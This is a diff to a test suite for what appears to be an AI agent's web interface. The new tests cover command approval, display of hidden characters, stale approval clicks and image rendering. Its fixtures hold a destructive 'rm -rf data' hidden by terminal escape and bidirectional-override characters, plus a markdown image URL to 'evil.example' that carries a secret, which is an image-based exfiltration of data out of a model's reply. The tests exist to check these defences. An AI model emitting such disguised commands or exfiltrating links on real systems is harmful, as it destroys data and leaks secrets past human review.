@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import gc
 import json
+import re
 import threading
 from collections.abc import Iterator
 from pathlib import Path
@@ -19,6 +20,8 @@ from streamlit.testing.v1 import AppTest  # noqa: E402
 import pygent  # noqa: E402
 from pygent.app.agent import AgentLoop  # noqa: E402
 from pygent.app.web_session import (  # noqa: E402
+    PageConfirm,
+    StopSwitch,
     WebSession,
     close_all_sessions,
     live_sessions,
@@ -31,8 +34,10 @@ from pygent.domain.events import AssistantDelta, AssistantText, ToolCallStarted 
 from pygent.domain.messages import Message  # noqa: E402
 from pygent.domain.sandbox import CommandResult, PathEscapeError, SandboxError  # noqa: E402
 from pygent.entrypoints import web  # noqa: E402
+from pygent.entrypoints.web_chat import call_preview, pretty_arguments  # noqa: E402
 from pygent.entrypoints.web_files import read_workspace_file, workspace_files  # noqa: E402
-from pygent.entrypoints.web_view import SESSION_KEY  # noqa: E402
+from pygent.entrypoints.web_guard import TOKEN_VAR  # noqa: E402
+from pygent.entrypoints.web_view import SESSION_KEY, sandbox_label  # noqa: E402
 from tests.fakes import FakeModel, FakeSandbox, call, calls, say  # noqa: E402
 
 PAGE = str(Path(web.__file__).with_name("web_app.py"))
@@ -131,6 +136,11 @@ def tool_blocks(at: AppTest) -> list[Any]:
     return list(at.status)
 
 
+def plain(markdown: str) -> str:
+    """A label as the page draws it: the Markdown backslash escapes taken out."""
+    return re.sub(r"\\(.)", r"\1", markdown)
+
+
 def shown_text(at: AppTest) -> str:
     parts = [e.value for e in (*at.markdown, *at.code, *at.error, *at.info)]
     return "\n".join(str(p) for p in parts)
@@ -141,7 +151,7 @@ def test_tool_calls_typed_for_the_direct_model_render_as_blocks_with_their_outpu
     send(at, 'write_file path="a.txt" content="hi"')
     send(at, 'bash cmd="cat a.txt"')
     assert not at.exception
-    labels = [block.label for block in tool_blocks(at)]
+    labels = [plain(block.label) for block in tool_blocks(at)]
     assert labels == ["write_file · a.txt", "bash · cat a.txt"]
     codes = [c.value for c in at.code]
     assert json.loads(codes[0]) == {"path": "a.txt", "content": "hi"}
@@ -159,7 +169,7 @@ def test_a_scripted_reply_renders_as_markdown_and_a_failed_call_is_flagged(
         send(at, "do it")
     assert "All **done**." in [m.value for m in at.markdown]
     (block,) = tool_blocks(at)
-    assert block.label == "bash · failed"
+    assert plain(block.label) == "bash · failed"
     assert "bad arguments" in at.code[-1].value
 
 
@@ -337,7 +347,7 @@ def test_with_confirm_on_a_denied_command_is_not_run(sandboxes: SandboxCounter) 
         session.wait(0.1)
     assert session.confirm.pending == "echo risky"
     at.run()
-    at.button(key="deny").click().run()
+    at.button(key=f"deny:{session.confirm.ticket}").click().run()
     assert session.wait(30)
     at.run()
     assert sandboxes.made[0].commands == []
@@ -454,9 +464,11 @@ def test_the_launcher_listens_on_localhost_by_default_and_passes_the_flags_as_se
     args = web.build_parser().parse_args(
         ["--no-docker", "--model", "m1", "--backend", "echo", "--workspace", str(tmp_path)]
     )
-    command = web.streamlit_command(args)
+    command = web.server_command(args)
+    assert command[1:3] == ["-m", "pygent.entrypoints.web_server"]
     assert command[command.index("--server.address") + 1] == "127.0.0.1"
     assert command[command.index("--server.port") + 1] == "8501"
+    assert command[command.index("--server.headless") + 1] == "true"
     env = web.page_environment(args, {"PYGENT_USE_DOCKER": "1"})
     assert env["PYGENT_USE_DOCKER"] == "0"
     assert (env["PYGENT_MODEL"], env["PYGENT_MODEL_BACKEND"]) == ("m1", "echo")
@@ -471,7 +483,7 @@ def test_the_launcher_is_headless_in_ci_and_warns_about_other_addresses(
     assert not web.is_loopback("0.0.0.0")
     assert web.main(["--host", "0.0.0.0", "--config", "/no/such/pygent.toml"]) == 2
     err = capsys.readouterr().err
-    assert "anyone who can reach this address can run shell commands" in err
+    assert "anyone who can reach this address and has the token can run shell commands" in err
     assert "/no/such/pygent.toml does not exist" in err
 
 
@@ -484,3 +496,107 @@ def test_the_token_limit_stops_a_web_run_and_says_so(workspace: Path) -> None:
     assert len(model.requests) == 2  # 100 tokens after one step, 200 after two: stop
     notices = [e.text for e in session.transcript.snapshot() if e.kind == "notice"]
     assert any("token" in text.lower() for text in notices), notices
+
+
+# -- what the page shows of a command -----------------------------------------------------------
+DECEPTIVE = "echo safe\r\x1b[2Krm -rf data \u202e"
+
+
+def wait_for_question(session: WebSession) -> None:
+    for _ in range(300):
+        if session.confirm.pending is not None or not session.busy:
+            return
+        session.wait(0.1)
+
+
+def test_a_command_to_confirm_shows_its_hidden_characters_and_runs_exactly_as_approved(
+    sandboxes: SandboxCounter,
+) -> None:
+    model = FakeModel([calls(call("bash", {"cmd": DECEPTIVE}))], default=say("done"))
+    with container.model.override(providers.Object(model)):
+        at = open_page()
+        send(at, "/confirm on")
+        at.chat_input[0].set_value("go").run()
+        session = session_of(at)
+        wait_for_question(session)
+        assert session.confirm.pending == DECEPTIVE
+        at.run()
+        codes = [c.value for c in at.code]
+        assert r"echo safe\r\x1b[2Krm -rf data \u202e" in codes
+        assert not any("\r" in c or "\x1b" in c or "\u202e" in c for c in codes)
+        assert "control or invisible characters" in at.warning[0].value
+        (block,) = tool_blocks(at)
+        assert plain(block.label) == r"bash · echo safe\r\x1b[2Krm -rf data \u202e"
+        at.button(key=f"allow:{session.confirm.ticket}").click().run()
+        assert session.wait(30)
+    assert sandboxes.made[0].commands == [DECEPTIVE]
+
+
+def test_an_answer_to_an_earlier_question_never_approves_the_next_one() -> None:
+    confirm = PageConfirm(StopSwitch())
+    results: list[bool] = []
+
+    def ask(command: str) -> threading.Thread:
+        worker = threading.Thread(target=lambda: results.append(confirm(command)))
+        worker.start()
+        while confirm.pending != command:
+            worker.join(0.01)
+        return worker
+
+    first = ask("ls")
+    ticket = confirm.ticket
+    confirm.answer(False, ticket)
+    confirm.answer(True, ticket)  # a second click on the same question changes nothing
+    first.join(5)
+    second = ask("rm -rf data")
+    confirm.answer(True, ticket)  # a late click meant for "ls"
+    assert confirm.pending == "rm -rf data"
+    confirm.answer(False, confirm.ticket)
+    second.join(5)
+    assert results == [False, False]
+
+
+def test_arguments_nested_fifty_thousand_deep_are_shown_as_sent_and_the_page_survives(
+    sandboxes: SandboxCounter,
+) -> None:
+    deep = "[" * 50_000 + "]" * 50_000
+    assert pretty_arguments(deep) == deep
+    assert call_preview(deep) == "· " + "[" * 70 + "..."
+    model = FakeModel([calls(call("bash", deep))], default=say("done"))
+    with container.model.override(providers.Object(model)):
+        at = open_page()
+        send(at, "go")
+    assert not at.exception
+    (block,) = tool_blocks(at)
+    assert plain(block.label).startswith("bash · [[[")
+
+
+def test_an_image_in_a_reply_is_drawn_as_a_link_naming_its_host_and_code_is_kept(
+    sandboxes: SandboxCounter,
+) -> None:
+    reply = "Look ![chart](http://evil.example/c.png?d=secret) or `![x](http://code/)`"
+    with container.model.override(providers.Object(FakeModel(default=say(reply)))):
+        at = open_page()
+        send(at, "draw")
+    shown = [m.value for m in at.chat_message[1].markdown]
+    assert shown == ["Look [image: chart (evil\\.example)](http://evil.example/c.png?d=secret)"
+                     " or `![x](http://code/)`"]
+
+
+def test_the_sandbox_label_is_the_runtime_s_own_when_it_has_one() -> None:
+    class Labelled:
+        kind, label = "local", "local (confined)"
+
+    class Bare:
+        kind = "docker"
+
+    assert sandbox_label(Labelled()) == "local (confined)"
+    assert sandbox_label(Bare()) == "Docker"
+
+
+def test_the_server_command_carries_no_token(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(TOKEN_VAR, "a-token-set-by-the-user-123")
+    args = web.build_parser().parse_args(["--no-headless"])
+    command = web.server_command(args)
+    assert "--open-browser" in command
+    assert not any("a-token-set-by-the-user-123" in part for part in command)
